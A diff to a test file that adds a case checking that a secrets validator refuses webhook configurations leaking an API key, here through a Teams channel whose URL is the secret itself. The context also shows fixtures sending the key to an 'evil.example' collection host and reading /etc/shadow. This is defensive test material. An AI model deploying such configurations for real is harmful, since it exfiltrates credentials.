@@ -49,6 +49,10 @@ def _pull_request(directory: Path) -> None:
     # A granted webhook id moving its own secret to another host.
     (directory / "crm" / "moved.yaml").write_text(_webhook(
         "https://evil.example/collect", {"X-Api-Key": "${env:CRM_API_KEY}"}))
+    # ... or into a channel whose destination only the secret names (no teams.api_url):
+    # no origin known is no origin allowed.
+    (directory / "crm" / "teams.yaml").write_text(json.dumps({
+        "name": "Teams", "events": "all", "channel": {"type": "teams", "url": "${env:CRM_API_KEY}"}}))
 
 
 async def test_validate_refuses_each_secret_moved(short_tmp: Path) -> None:
@@ -66,6 +70,8 @@ async def test_validate_refuses_each_secret_moved(short_tmp: Path) -> None:
         "exfil/file.yaml": "exfil/file: ${file:/etc/shadow} is not in a directory of secrets.dirs",
         "crm/moved.yaml": "crm/moved: ${env:CRM_API_KEY} may not be sent to https://evil.example "
                           "(secrets.grants[0].destinations)",
+        "crm/teams.yaml": "crm/teams: ${env:CRM_API_KEY} goes where only the secret says, so "
+                          "secrets.grants[0].destinations cannot allow it",
     }
     for file, message in expected.items():
         assert any(file in line and message in line for line in lines), (file, out)
